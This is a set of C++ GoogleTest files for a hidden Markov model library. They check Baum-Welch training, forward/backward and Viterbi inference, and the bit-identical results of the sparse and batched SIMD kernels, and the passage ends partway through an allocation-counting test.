  HmmModel model = GroundTruth();
  EXPECT_FALSE(BaumWelchTrain(&model, {}).ok());
  EXPECT_FALSE(BaumWelchTrain(&model, {ObservationSeq{}}).ok());
}

TEST(BaumWelchTest, SingleSequenceTraining) {
  util::Rng rng(606);
  const auto sequences = Sample(GroundTruth(), 1, 100, rng);
  HmmModel model = HmmModel::Random(2, 3, rng);
  auto stats = BaumWelchTrain(&model, sequences);
  ASSERT_TRUE(stats.ok());
  EXPECT_TRUE(model.Validate().ok());
}

TEST(BaumWelchTest, LearnsDistinctEmissions) {
  // With clearly separated emission profiles, training from a perturbed
  // start recovers state-specialized emissions.
  util::Rng rng(707);
  const HmmModel truth = GroundTruth();
  const auto sequences = Sample(truth, 100, 30, rng);
  HmmModel model = HmmModel::Random(2, 3, rng);
  TrainOptions options;
  options.max_iterations = 60;
  ASSERT_TRUE(BaumWelchTrain(&model, sequences, options).ok());
  // One state should emit symbol 0 heavily, the other symbol 2 (label
  // switching allowed).
  const double s0_sym0 = model.b().At(0, 0);
  const double s1_sym0 = model.b().At(1, 0);
  const double heavy0 = std::max(s0_sym0, s1_sym0);
  const size_t other = s0_sym0 > s1_sym0 ? 1 : 0;
  EXPECT_GT(heavy0, 0.6);
  EXPECT_GT(model.b().At(other, 2), 0.6);
}

}  // namespace
}  // namespace adprom::hmm
