// Property tests over random HMMs and sequences: Viterbi-path probability
// never exceeds total sequence probability; forward likelihoods are proper
// distributions over the observation space; Smooth preserves evaluation
// up to the smoothing magnitude.

#include <gtest/gtest.h>

#include <cmath>

#include "hmm/inference.h"
#include "util/rng.h"

namespace adprom::hmm {
namespace {

double PathLogProbability(const HmmModel& model, const ObservationSeq& seq,
                          const std::vector<size_t>& path) {
  double log_p = std::log(model.pi()[path[0]]) +
                 std::log(model.b().At(path[0], seq[0]));
  for (size_t t = 1; t < seq.size(); ++t) {
    log_p += std::log(model.a().At(path[t - 1], path[t])) +
             std::log(model.b().At(path[t], seq[t]));
  }
  return log_p;
}

class HmmPropertyTest : public ::testing::TestWithParam<uint64_t> {};

TEST_P(HmmPropertyTest, ViterbiPathNeverBeatsTotalProbability) {
  util::Rng rng(GetParam());
  const HmmModel model = HmmModel::Random(2 + rng.UniformU64(4),
                                          2 + rng.UniformU64(5), rng);
  for (int trial = 0; trial < 5; ++trial) {
    ObservationSeq seq;
    const size_t len = 1 + rng.UniformU64(12);
    for (size_t t = 0; t < len; ++t) {
      seq.push_back(static_cast<int>(rng.UniformU64(model.num_symbols())));
    }
    auto total = LogLikelihood(model, seq);
    auto path = Viterbi(model, seq);
    ASSERT_TRUE(total.ok());
    ASSERT_TRUE(path.ok());
    const double best_path = PathLogProbability(model, seq, *path);
    EXPECT_LE(best_path, *total + 1e-9);
    // And with only one state, the single path carries everything.
    if (model.num_states() == 1) {
      EXPECT_NEAR(best_path, *total, 1e-9);
    }
  }
}

TEST_P(HmmPropertyTest, LikelihoodSumsToOneOverAllSequences) {
  util::Rng rng(GetParam() + 1000);
  const HmmModel model = HmmModel::Random(2 + rng.UniformU64(2), 2, rng);
  // Sum P(O) over every binary sequence of length L must be 1.
  const size_t len = 6;
  double total = 0.0;
  for (size_t code = 0; code < (1u << len); ++code) {
    ObservationSeq seq(len);
    for (size_t t = 0; t < len; ++t) {
      seq[t] = static_cast<int>((code >> t) & 1);
    }
    auto ll = LogLikelihood(model, seq);
    ASSERT_TRUE(ll.ok());
    total += std::exp(*ll);
  }
  EXPECT_NEAR(total, 1.0, 1e-9);
}

TEST_P(HmmPropertyTest, SmoothPerturbsEvaluationOnlySlightly) {
  util::Rng rng(GetParam() + 2000);
  HmmModel model = HmmModel::Random(3, 4, rng);
  ObservationSeq seq = {0, 2, 1, 3, 1, 0};
  const double before = *LogLikelihood(model, seq);
  model.Smooth(1e-9);
  EXPECT_TRUE(model.Validate().ok());
  const double after = *LogLikelihood(model, seq);
  EXPECT_NEAR(before, after, 1e-5);
}

INSTANTIATE_TEST_SUITE_P(Seeds, HmmPropertyTest,
                         ::testing::Range<uint64_t>(1, 11));

}  // namespace
}  // namespace adprom::hmm
