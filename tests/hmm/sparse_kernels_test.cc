// Differential tests for the CSR HMM kernels: on the same model, the
// sparse forward/backward/Viterbi/Baum-Welch paths must be *bit-identical*
// to the dense ones — not merely close. Bitwise equality is the contract
// that lets the detection engine, the profile constructor and the
// streaming service switch kernels without any behavioural change.

#include <gtest/gtest.h>

#include <cmath>
#include <cstdint>
#include <cstring>

#include "hmm/baum_welch.h"
#include "hmm/inference.h"
#include "hmm/sparse.h"
#include "util/rng.h"

namespace adprom::hmm {
namespace {

uint64_t Bits(double v) {
  uint64_t bits = 0;
  std::memcpy(&bits, &v, sizeof(bits));
  return bits;
}

#define EXPECT_BIT_EQ(a, b) EXPECT_EQ(Bits(a), Bits(b))

/// A structurally sparse model: ~70% of A's entries are exact zeros (at
/// least one nonzero per row), B and π smoothed dense-positive — the shape
/// ProfileConstructor produces from a pCTM.
HmmModel RandomSparseModel(size_t n, size_t m, util::Rng& rng) {
  util::Matrix a(n, n);
  util::Matrix b(n, m);
  std::vector<double> pi(n);
  for (size_t s = 0; s < n; ++s) {
    for (size_t t = 0; t < n; ++t) {
      if (rng.UniformDouble() < 0.3) a.At(s, t) = 0.05 + rng.UniformDouble();
    }
    // Guarantee a stochastic row.
    a.At(s, rng.UniformU64(n)) = 0.05 + rng.UniformDouble();
    for (size_t o = 0; o < m; ++o) b.At(s, o) = 0.1 + rng.UniformDouble();
    pi[s] = 0.1 + rng.UniformDouble();
  }
  a.NormalizeRows();
  b.NormalizeRows();
  double total = 0.0;
  for (double v : pi) total += v;
  for (double& v : pi) v /= total;
  HmmModel model(std::move(a), std::move(b), std::move(pi));
  model.SmoothEmissions(1e-6);
  EXPECT_TRUE(model.Validate().ok());
  return model;
}

ObservationSeq RandomSeq(size_t len, size_t m, util::Rng& rng) {
  ObservationSeq seq(len);
  for (size_t t = 0; t < len; ++t) {
    seq[t] = static_cast<int>(rng.UniformU64(m));
  }
  return seq;
}

TEST(CsrMatrixTest, FromDenseRecordsExactlyTheNonzeros) {
  util::Matrix dense(3, 4);
  dense.At(0, 1) = 0.5;
  dense.At(0, 3) = 0.25;
  dense.At(2, 0) = 1.0;
  const CsrMatrix csr = CsrMatrix::FromDense(dense);
  EXPECT_EQ(csr.rows, 3u);
  EXPECT_EQ(csr.cols, 4u);
  ASSERT_EQ(csr.nnz(), 3u);
  EXPECT_EQ(csr.row_ptr, (std::vector<size_t>{0, 2, 2, 3}));
  EXPECT_EQ(csr.col, (std::vector<size_t>{1, 3, 0}));
  EXPECT_EQ(csr.val, (std::vector<double>{0.5, 0.25, 1.0}));
  EXPECT_DOUBLE_EQ(csr.Density(), 3.0 / 12.0);
}

TEST(CsrMatrixTest, EmptyMatrixHasDensityOne) {
  EXPECT_EQ(CsrMatrix().Density(), 1.0);
}

TEST(SmoothEmissionsTest, LeavesTransitionsBitwiseUntouched) {
  util::Rng rng(7);
  util::Matrix a(3, 3);
  a.At(0, 1) = 1.0;
  a.At(1, 0) = 0.5;
  a.At(1, 2) = 0.5;
  a.At(2, 2) = 1.0;
  util::Matrix b(3, 2);
  b.At(0, 0) = 1.0;
  b.At(1, 1) = 1.0;
  b.At(2, 0) = 0.5;
  b.At(2, 1) = 0.5;
  HmmModel model(std::move(a), std::move(b), {0.25, 0.25, 0.5});
  const util::Matrix a_before = model.a();
  model.SmoothEmissions(1e-6);
  for (size_t s = 0; s < 3; ++s) {
    for (size_t t = 0; t < 3; ++t) {
      EXPECT_BIT_EQ(model.a().At(s, t), a_before.At(s, t));
    }
    for (size_t o = 0; o < 2; ++o) EXPECT_GT(model.b().At(s, o), 0.0);
  }
  EXPECT_TRUE(model.Validate().ok());
}

class SparseKernelTest : public ::testing::TestWithParam<uint64_t> {};

TEST_P(SparseKernelTest, ForwardIsBitIdentical) {
  util::Rng rng(GetParam());
  const size_t n = 2 + rng.UniformU64(14);
  const size_t m = 2 + rng.UniformU64(9);
  const HmmModel model = RandomSparseModel(n, m, rng);
  const SparseHmm sparse(model);
  EXPECT_EQ(sparse.num_states(), n);
  EXPECT_EQ(sparse.num_symbols(), m);

  for (int trial = 0; trial < 8; ++trial) {
    const ObservationSeq seq = RandomSeq(1 + rng.UniformU64(30), m, rng);
    ForwardWorkspace dense_ws, sparse_ws;
    auto dense_ll = ForwardInto(model, seq, &dense_ws);
    auto sparse_ll = ForwardInto(sparse, seq, &sparse_ws);
    ASSERT_TRUE(dense_ll.ok());
    ASSERT_TRUE(sparse_ll.ok());
    EXPECT_BIT_EQ(*dense_ll, *sparse_ll);
    for (size_t t = 0; t < seq.size(); ++t) {
      EXPECT_BIT_EQ(dense_ws.scale[t], sparse_ws.scale[t]);
      for (size_t s = 0; s < n; ++s) {
        EXPECT_BIT_EQ(dense_ws.alpha.At(t, s), sparse_ws.alpha.At(t, s));
      }
    }

    auto dense_score = PerSymbolLogLikelihood(model, seq, &dense_ws);
    auto sparse_score = PerSymbolLogLikelihood(sparse, seq, &sparse_ws);
    ASSERT_TRUE(dense_score.ok() && sparse_score.ok());
    EXPECT_BIT_EQ(*dense_score, *sparse_score);
  }
}

TEST_P(SparseKernelTest, BackwardIsBitIdentical) {
  util::Rng rng(GetParam() + 500);
  const size_t n = 2 + rng.UniformU64(10);
  const size_t m = 2 + rng.UniformU64(6);
  const HmmModel model = RandomSparseModel(n, m, rng);
  const SparseHmm sparse(model);

  for (int trial = 0; trial < 8; ++trial) {
    const ObservationSeq seq = RandomSeq(2 + rng.UniformU64(20), m, rng);
    ForwardWorkspace fw_ws;
    ASSERT_TRUE(ForwardInto(model, seq, &fw_ws).ok());
    BackwardWorkspace dense_ws, sparse_ws;
    ASSERT_TRUE(BackwardInto(model, seq, fw_ws.scale, &dense_ws).ok());
    ASSERT_TRUE(BackwardInto(sparse, seq, fw_ws.scale, &sparse_ws).ok());
    for (size_t t = 0; t < seq.size(); ++t) {
      for (size_t s = 0; s < n; ++s) {
        EXPECT_BIT_EQ(dense_ws.beta.At(t, s), sparse_ws.beta.At(t, s));
      }
    }
  }
}

TEST_P(SparseKernelTest, ViterbiPathsAreIdentical) {
  util::Rng rng(GetParam() + 1000);
  const size_t n = 2 + rng.UniformU64(10);
  const size_t m = 2 + rng.UniformU64(6);
  const HmmModel model = RandomSparseModel(n, m, rng);
  const SparseHmm sparse(model);

  for (int trial = 0; trial < 8; ++trial) {
    const ObservationSeq seq = RandomSeq(1 + rng.UniformU64(25), m, rng);
    auto dense_path = Viterbi(model, seq);
    auto sparse_path = Viterbi(sparse, seq);
    ASSERT_TRUE(dense_path.ok());
    ASSERT_TRUE(sparse_path.ok());
    EXPECT_EQ(*dense_path, *sparse_path);
  }
}

TEST_P(SparseKernelTest, BaumWelchTrainsBitIdenticalModels) {
  util::Rng rng(GetParam() + 2000);
  const size_t n = 3 + rng.UniformU64(5);
  const size_t m = 3 + rng.UniformU64(4);
  const HmmModel seed_model = RandomSparseModel(n, m, rng);
  std::vector<ObservationSeq> sequences;
  for (int i = 0; i < 12; ++i) {
    sequences.push_back(RandomSeq(5 + rng.UniformU64(12), m, rng));
  }

  for (bool smooth_transitions : {false, true}) {
    HmmModel dense_model = seed_model;
    HmmModel sparse_model = seed_model;
    TrainOptions options;
    options.max_iterations = 6;
    options.smooth_transitions = smooth_transitions;
    options.num_threads = 1;
    options.dense_kernels = true;
    ASSERT_TRUE(BaumWelchTrain(&dense_model, sequences, options).ok());
    options.dense_kernels = false;
    options.sparse_density_cutoff = 1.0;  // force the CSR E-step
    options.batch_width = 0;  // pin the per-sequence kernels (the batched
                              // engine has its own suite in batch_train_test)
    options.num_threads = 4;  // kernel AND thread count must not matter
    ASSERT_TRUE(BaumWelchTrain(&sparse_model, sequences, options).ok());

    for (size_t s = 0; s < n; ++s) {
      for (size_t t = 0; t < n; ++t) {
        EXPECT_BIT_EQ(dense_model.a().At(s, t), sparse_model.a().At(s, t));
      }
      for (size_t o = 0; o < m; ++o) {
        EXPECT_BIT_EQ(dense_model.b().At(s, o), sparse_model.b().At(s, o));
      }
      EXPECT_BIT_EQ(dense_model.pi()[s], sparse_model.pi()[s]);
    }
    if (!smooth_transitions) {
      // Structural smoothing preserves A's zero support through EM.
      for (size_t s = 0; s < n; ++s) {
        for (size_t t = 0; t < n; ++t) {
          if (seed_model.a().At(s, t) == 0.0) {
            EXPECT_EQ(sparse_model.a().At(s, t), 0.0);
          }
        }
      }
    }
  }
}

TEST_P(SparseKernelTest, FullyDenseModelDegradesGracefully) {
  util::Rng rng(GetParam() + 3000);
  HmmModel model = HmmModel::Random(4, 3, rng);
  model.Smooth(1e-6);  // density 1
  const SparseHmm sparse(model);
  EXPECT_EQ(sparse.transition_density(), 1.0);
  const ObservationSeq seq = RandomSeq(12, 3, rng);
  ForwardWorkspace dense_ws, sparse_ws;
  auto dense_ll = ForwardInto(model, seq, &dense_ws);
  auto sparse_ll = ForwardInto(sparse, seq, &sparse_ws);
  ASSERT_TRUE(dense_ll.ok() && sparse_ll.ok());
  EXPECT_BIT_EQ(*dense_ll, *sparse_ll);
}

INSTANTIATE_TEST_SUITE_P(Seeds, SparseKernelTest,
                         ::testing::Values(1, 2, 3, 4, 5, 6, 7, 8));

// The Viterbi fallback corner: exact-zero emissions (legal — Viterbi does
// not require smoothed B) drive the delta spread past 1e18, so a skipped
// zero transition could win or tie the dense argmax. The sparse kernel
// must detect that and rescan the column in dense order.
TEST(SparseViterbiFallbackTest, ZeroEmissionsMatchDenseExactly) {
  // Cyclic permutation A (maximally sparse) and hard zero emissions.
  util::Matrix a(3, 3);
  a.At(0, 1) = 1.0;
  a.At(1, 2) = 1.0;
  a.At(2, 0) = 1.0;
  util::Matrix b(3, 2);
  b.At(0, 0) = 1.0;  // state 0 can only emit symbol 0
  b.At(1, 1) = 1.0;  // state 1 can only emit symbol 1
  b.At(2, 0) = 0.5;
  b.At(2, 1) = 0.5;
  const HmmModel model(std::move(a), std::move(b),
                       {1.0 / 3, 1.0 / 3, 1.0 / 3});
  const SparseHmm sparse(model);

  util::Rng rng(99);
  for (int trial = 0; trial < 64; ++trial) {
    ObservationSeq seq;
    const size_t len = 2 + rng.UniformU64(12);
    for (size_t t = 0; t < len; ++t) {
      seq.push_back(static_cast<int>(rng.UniformU64(2)));
    }
    auto dense_path = Viterbi(model, seq);
    auto sparse_path = Viterbi(sparse, seq);
    ASSERT_TRUE(dense_path.ok());
    ASSERT_TRUE(sparse_path.ok());
    EXPECT_EQ(*dense_path, *sparse_path) << "trial " << trial;
  }
}

TEST(SparseViterbiFallbackTest, AllZeroColumnMatchesDense) {
  // No transition ever enters state 0 — its CSC row is empty, so every
  // step takes the fallback scan for that column.
  util::Matrix a(3, 3);
  a.At(0, 1) = 1.0;
  a.At(1, 2) = 1.0;
  a.At(2, 1) = 0.5;
  a.At(2, 2) = 0.5;
  util::Matrix b(3, 2);
  b.At(0, 0) = 0.5;
  b.At(0, 1) = 0.5;
  b.At(1, 0) = 1.0;
  b.At(2, 1) = 1.0;
  const HmmModel model(std::move(a), std::move(b), {0.5, 0.25, 0.25});
  const SparseHmm sparse(model);

  util::Rng rng(123);
  for (int trial = 0; trial < 32; ++trial) {
    ObservationSeq seq;
    const size_t len = 1 + rng.UniformU64(10);
    for (size_t t = 0; t < len; ++t) {
      seq.push_back(static_cast<int>(rng.UniformU64(2)));
    }
    auto dense_path = Viterbi(model, seq);
    auto sparse_path = Viterbi(sparse, seq);
    ASSERT_TRUE(dense_path.ok());
    ASSERT_TRUE(sparse_path.ok());
    EXPECT_EQ(*dense_path, *sparse_path) << "trial " << trial;
  }
}

}  // namespace
}  // namespace adprom::hmm
