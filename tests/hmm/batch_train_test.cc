// Property tests for the batched SIMD Baum-Welch E-step engine: on the
// same corpus, BaumWelchTrain through BatchEStep must train models
// *bit-identical* to the dense scalar reference — not merely close — for
// every batch width, thread count, smoothing mode, xi kernel, and SIMD
// dispatch. Bitwise equality is the contract that lets the Profile
// Constructor make the batched engine the default without any behavioural
// change (and lets forced-scalar CI prove the fallback).

#include <gtest/gtest.h>

#include <cmath>
#include <cstdint>
#include <cstring>
#include <vector>

#include "hmm/baum_welch.h"
#include "hmm/batch_baum_welch.h"
#include "hmm/sparse.h"
#include "util/rng.h"

namespace adprom::hmm {
namespace {

uint64_t Bits(double v) {
  uint64_t bits = 0;
  std::memcpy(&bits, &v, sizeof(bits));
  return bits;
}

#define EXPECT_BIT_EQ(a, b) EXPECT_EQ(Bits(a), Bits(b))

/// A structurally sparse model, the shape ProfileConstructor produces from
/// a pCTM: ~70% of A exact zeros, B and π smoothed dense-positive.
HmmModel RandomSparseModel(size_t n, size_t m, util::Rng& rng) {
  util::Matrix a(n, n);
  util::Matrix b(n, m);
  std::vector<double> pi(n);
  for (size_t s = 0; s < n; ++s) {
    for (size_t t = 0; t < n; ++t) {
      if (rng.UniformDouble() < 0.3) a.At(s, t) = 0.05 + rng.UniformDouble();
    }
    a.At(s, rng.UniformU64(n)) = 0.05 + rng.UniformDouble();
    for (size_t o = 0; o < m; ++o) b.At(s, o) = 0.1 + rng.UniformDouble();
    pi[s] = 0.1 + rng.UniformDouble();
  }
  a.NormalizeRows();
  b.NormalizeRows();
  double total = 0.0;
  for (double v : pi) total += v;
  for (double& v : pi) v /= total;
  HmmModel model(std::move(a), std::move(b), std::move(pi));
  model.SmoothEmissions(1e-6);
  EXPECT_TRUE(model.Validate().ok());
  return model;
}

/// A mixed-length corpus: mostly window-sized runs of one length (the
/// detection shape, where the batch kernels earn their keep), with
/// scattered odd lengths — including length-1 — so the run bucketing, the
/// scalar remainder lanes, and the t_len==1 edge all get exercised.
std::vector<ObservationSeq> MixedCorpus(size_t count, size_t m,
                                        util::Rng& rng) {
  std::vector<ObservationSeq> seqs;
  seqs.reserve(count);
  while (seqs.size() < count) {
    size_t len = 15;
    const double kind = rng.UniformDouble();
    if (kind < 0.15) {
      len = 1 + rng.UniformU64(14);  // odd-length stragglers
    } else if (kind < 0.3) {
      len = 15 + rng.UniformU64(10);
    }
    const size_t run = 1 + rng.UniformU64(12);
    for (size_t i = 0; i < run && seqs.size() < count; ++i) {
      ObservationSeq seq(len);
      for (int& v : seq) v = static_cast<int>(rng.UniformU64(m));
      seqs.push_back(std::move(seq));
    }
  }
  return seqs;
}

void ExpectModelsBitIdentical(const HmmModel& a, const HmmModel& b) {
  const size_t n = a.num_states();
  const size_t m = a.num_symbols();
  ASSERT_EQ(n, b.num_states());
  ASSERT_EQ(m, b.num_symbols());
  for (size_t s = 0; s < n; ++s) {
    for (size_t t = 0; t < n; ++t) {
      EXPECT_BIT_EQ(a.a().At(s, t), b.a().At(s, t));
    }
    for (size_t o = 0; o < m; ++o) {
      EXPECT_BIT_EQ(a.b().At(s, o), b.b().At(s, o));
    }
    EXPECT_BIT_EQ(a.pi()[s], b.pi()[s]);
  }
}

class BatchTrainTest : public ::testing::TestWithParam<uint64_t> {};

TEST_P(BatchTrainTest, BitIdenticalAcrossWidthsThreadsAndSmoothing) {
  util::Rng rng(GetParam());
  const size_t n = 3 + rng.UniformU64(6);
  const size_t m = 3 + rng.UniformU64(4);
  const HmmModel seed_model = RandomSparseModel(n, m, rng);
  const std::vector<ObservationSeq> sequences = MixedCorpus(40, m, rng);

  for (const bool smooth_transitions : {false, true}) {
    TrainOptions reference_options;
    reference_options.max_iterations = 5;
    reference_options.tolerance = 0.0;
    reference_options.smooth_transitions = smooth_transitions;
    reference_options.dense_kernels = true;
    reference_options.num_threads = 1;
    HmmModel reference = seed_model;
    auto reference_stats =
        BaumWelchTrain(&reference, sequences, reference_options);
    ASSERT_TRUE(reference_stats.ok());
    EXPECT_EQ(reference_stats->kernel, "dense");

    for (const size_t width : {1u, 3u, 16u, 17u}) {
      for (const int threads : {0, 1, 4}) {
        for (const bool no_simd : {false, true}) {
          TrainOptions options = reference_options;
          options.dense_kernels = false;
          options.batch_width = width;
          options.no_simd = no_simd;
          options.num_threads = threads;
          HmmModel model = seed_model;
          auto stats = BaumWelchTrain(&model, sequences, options);
          ASSERT_TRUE(stats.ok());
          SCOPED_TRACE(::testing::Message()
                       << "width=" << width << " threads=" << threads
                       << " no_simd=" << no_simd
                       << " smooth=" << smooth_transitions);
          ExpectModelsBitIdentical(reference, model);
          EXPECT_EQ(stats->kernel, "batch");
          if (no_simd) {
            EXPECT_EQ(stats->simd_level, "scalar");
          }
          ASSERT_EQ(stats->log_likelihood_curve.size(),
                    reference_stats->log_likelihood_curve.size());
          for (size_t i = 0; i < stats->log_likelihood_curve.size(); ++i) {
            EXPECT_BIT_EQ(stats->log_likelihood_curve[i],
                          reference_stats->log_likelihood_curve[i]);
          }
        }
      }
    }
  }
}

TEST_P(BatchTrainTest, BothXiKernelsMatchTheReference) {
  util::Rng rng(GetParam() + 4000);
  const size_t n = 3 + rng.UniformU64(6);
  const size_t m = 3 + rng.UniformU64(4);
  const HmmModel seed_model = RandomSparseModel(n, m, rng);
  const std::vector<ObservationSeq> sequences = MixedCorpus(24, m, rng);

  TrainOptions options;
  options.max_iterations = 4;
  options.tolerance = 0.0;
  options.smooth_transitions = false;  // preserve the zero pattern
  options.dense_kernels = true;
  options.num_threads = 1;
  HmmModel reference = seed_model;
  ASSERT_TRUE(BaumWelchTrain(&reference, sequences, options).ok());

  // cutoff 1.0 forces the CSR xi rows; cutoff 0.0 forces the dense
  // (vectorized) xi rows — the forward/backward blocks are CSR either way.
  for (const double cutoff : {1.0, 0.0}) {
    TrainOptions batch_options = options;
    batch_options.dense_kernels = false;
    batch_options.sparse_density_cutoff = cutoff;
    HmmModel model = seed_model;
    ASSERT_TRUE(BaumWelchTrain(&model, sequences, batch_options).ok());
    SCOPED_TRACE(::testing::Message() << "cutoff=" << cutoff);
    ExpectModelsBitIdentical(reference, model);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, BatchTrainTest,
                         ::testing::Values(11, 12, 13, 14));

/// The stats plumbing the CLI reports: curve capacity reserved up front
/// (no reallocation mid-loop) and the executed kernel/dispatch recorded.
TEST(BatchTrainStatsTest, ReportsKernelAndReservesCurve) {
  util::Rng rng(77);
  const HmmModel seed_model = RandomSparseModel(6, 4, rng);
  const std::vector<ObservationSeq> sequences = MixedCorpus(12, 4, rng);

  TrainOptions options;
  options.max_iterations = 3;
  options.tolerance = 0.0;
  HmmModel model = seed_model;
  auto stats = BaumWelchTrain(&model, sequences, options);
  ASSERT_TRUE(stats.ok());
  EXPECT_EQ(stats->kernel, "batch");
  EXPECT_FALSE(stats->simd_level.empty());
  EXPECT_EQ(stats->log_likelihood_curve.size(), 3u);

  options.dense_kernels = true;
  HmmModel dense_model = seed_model;
  auto dense_stats = BaumWelchTrain(&dense_model, sequences, options);
  ASSERT_TRUE(dense_stats.ok());
  EXPECT_EQ(dense_stats->kernel, "dense");
  EXPECT_EQ(dense_stats->simd_level, "scalar");

  options.dense_kernels = false;
  options.batch_width = 0;  // legacy per-sequence kernels
  options.sparse_density_cutoff = 1.0;
  HmmModel csr_model = seed_model;
  auto csr_stats = BaumWelchTrain(&csr_model, sequences, options);
  ASSERT_TRUE(csr_stats.ok());
  EXPECT_EQ(csr_stats->kernel, "csr");
  ExpectModelsBitIdentical(dense_model, csr_model);
  ExpectModelsBitIdentical(dense_model, model);
}

}  // namespace
}  // namespace adprom::hmm
