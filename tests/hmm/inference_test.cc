#include "hmm/inference.h"

#include <gtest/gtest.h>

#include <cmath>

namespace adprom::hmm {
namespace {

HmmModel TwoStateModel() {
  util::Matrix a = util::Matrix::FromRows({{0.7, 0.3}, {0.4, 0.6}});
  util::Matrix b = util::Matrix::FromRows({{0.9, 0.1}, {0.2, 0.8}});
  return HmmModel(std::move(a), std::move(b), {0.6, 0.4});
}

/// Brute-force P(O|λ) by summing over every hidden state path.
double BruteForceLikelihood(const HmmModel& m, const ObservationSeq& seq) {
  const size_t n = m.num_states();
  const size_t t_len = seq.size();
  double total = 0.0;
  std::vector<size_t> path(t_len, 0);
  for (;;) {
    double p = m.pi()[path[0]] * m.b().At(path[0], seq[0]);
    for (size_t t = 1; t < t_len; ++t) {
      p *= m.a().At(path[t - 1], path[t]) * m.b().At(path[t], seq[t]);
    }
    total += p;
    // Advance the path like an odometer.
    size_t i = 0;
    while (i < t_len && ++path[i] == n) {
      path[i] = 0;
      ++i;
    }
    if (i == t_len) break;
  }
  return total;
}

TEST(ForwardTest, MatchesBruteForceOnShortSequences) {
  const HmmModel model = TwoStateModel();
  const std::vector<ObservationSeq> cases = {
      {0}, {1}, {0, 1}, {1, 1, 0}, {0, 0, 1, 1}, {1, 0, 1, 0, 1}};
  for (const ObservationSeq& seq : cases) {
    auto ll = LogLikelihood(model, seq);
    ASSERT_TRUE(ll.ok());
    EXPECT_NEAR(*ll, std::log(BruteForceLikelihood(model, seq)), 1e-10)
        << "sequence length " << seq.size();
  }
}

TEST(ForwardTest, SingleSymbolProbability) {
  const HmmModel model = TwoStateModel();
  // P(O=0) = 0.6*0.9 + 0.4*0.2 = 0.62.
  auto ll = LogLikelihood(model, ObservationSeq{0});
  ASSERT_TRUE(ll.ok());
  EXPECT_NEAR(std::exp(*ll), 0.62, 1e-12);
}

TEST(ForwardTest, ScalingSurvivesLongSequences) {
  const HmmModel model = TwoStateModel();
  ObservationSeq seq(5000);
  for (size_t i = 0; i < seq.size(); ++i) seq[i] = i % 2;
  auto ll = LogLikelihood(model, seq);
  ASSERT_TRUE(ll.ok());
  EXPECT_TRUE(std::isfinite(*ll));
  EXPECT_LT(*ll, 0.0);
}

TEST(ForwardTest, PerSymbolNormalization) {
  const HmmModel model = TwoStateModel();
  const ObservationSeq seq = {0, 1, 0, 1};
  auto total = LogLikelihood(model, seq);
  auto per = PerSymbolLogLikelihood(model, seq);
  ASSERT_TRUE(total.ok());
  ASSERT_TRUE(per.ok());
  EXPECT_NEAR(*per, *total / 4.0, 1e-12);
}

TEST(ForwardTest, RejectsBadInput) {
  const HmmModel model = TwoStateModel();
  EXPECT_FALSE(LogLikelihood(model, {}).ok());
  EXPECT_FALSE(LogLikelihood(model, ObservationSeq{0, 5}).ok());
  EXPECT_FALSE(LogLikelihood(model, ObservationSeq{-1}).ok());
}

TEST(BackwardTest, GammaSumsToOne) {
  const HmmModel model = TwoStateModel();
  const ObservationSeq seq = {0, 1, 1, 0, 1};
  auto fw = Forward(model, seq);
  ASSERT_TRUE(fw.ok());
  auto beta = Backward(model, seq, fw->scale);
  ASSERT_TRUE(beta.ok());
  // gamma_t(s) = alpha_t(s)*beta_t(s)*scale_t must sum to 1 over states.
  for (size_t t = 0; t < seq.size(); ++t) {
    double sum = 0.0;
    for (size_t s = 0; s < model.num_states(); ++s) {
      sum += fw->alpha.At(t, s) * beta->At(t, s) * fw->scale[t];
    }
    EXPECT_NEAR(sum, 1.0, 1e-9) << "t=" << t;
  }
}

TEST(ViterbiTest, DecodesObviousPath) {
  // Nearly-deterministic model: state 0 emits symbol 0, state 1 emits 1.
  util::Matrix a = util::Matrix::FromRows({{0.9, 0.1}, {0.1, 0.9}});
  util::Matrix b = util::Matrix::FromRows({{0.99, 0.01}, {0.01, 0.99}});
  HmmModel model(std::move(a), std::move(b), {0.5, 0.5});
  auto path = Viterbi(model, ObservationSeq{0, 0, 1, 1, 0});
  ASSERT_TRUE(path.ok());
  EXPECT_EQ(*path, (std::vector<size_t>{0, 0, 1, 1, 0}));
}

TEST(ViterbiTest, HandlesZeroProbabilities) {
  util::Matrix a = util::Matrix::FromRows({{1.0, 0.0}, {0.0, 1.0}});
  util::Matrix b = util::Matrix::FromRows({{1.0, 0.0}, {0.0, 1.0}});
  HmmModel model(std::move(a), std::move(b), {1.0, 0.0});
  auto path = Viterbi(model, ObservationSeq{0, 0});
  ASSERT_TRUE(path.ok());
  EXPECT_EQ(*path, (std::vector<size_t>{0, 0}));
}

}  // namespace
}  // namespace adprom::hmm
