// Asserts the batched engine's steady-state zero-allocation contract: once
// a BatchWorkspace has been Reserve()d (or warmed by one call), repeated
// ScoreBatch calls perform no heap allocations at all. The check replaces
// the global operator new in this test binary with a counting hook — kept
// in its own binary so the override cannot perturb any other suite.

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <new>
#include <span>
#include <vector>

#include "hmm/batch_baum_welch.h"
#include "hmm/batch_forward.h"
#include "hmm/sparse.h"
#include "util/rng.h"

namespace {

std::atomic<bool> g_counting{false};
std::atomic<size_t> g_allocations{0};

}  // namespace

void* operator new(std::size_t size) {
  if (g_counting.load(std::memory_order_relaxed)) {
    g_allocations.fetch_add(1, std::memory_order_relaxed);
  }
  if (void* p = std::malloc(size ? size : 1)) return p;
  throw std::bad_alloc();
}

void* operator new[](std::size_t size) { return ::operator new(size); }

void operator delete(void* p) noexcept { std::free(p); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }

namespace adprom::hmm {
namespace {

/// RAII arm/disarm for the counting hook.
class CountAllocations {
 public:
  CountAllocations() {
    g_allocations.store(0);
    g_counting.store(true);
  }
  ~CountAllocations() { g_counting.store(false); }
  size_t count() const { return g_allocations.load(); }
};

HmmModel SmallModel(size_t n, size_t m) {
  util::Rng rng(7);
  util::Matrix a(n, n);
  util::Matrix b(n, m);
  std::vector<double> pi(n, 1.0 / static_cast<double>(n));
  for (size_t s = 0; s < n; ++s) {
    a.At(s, (s + 1) % n) = 0.6;
    a.At(s, s) = 0.4;
    for (size_t o = 0; o < m; ++o) b.At(s, o) = 0.1 + rng.UniformDouble();
  }
  b.NormalizeRows();
  HmmModel model(std::move(a), std::move(b), std::move(pi));
  model.SmoothEmissions(1e-6);
  return model;
}

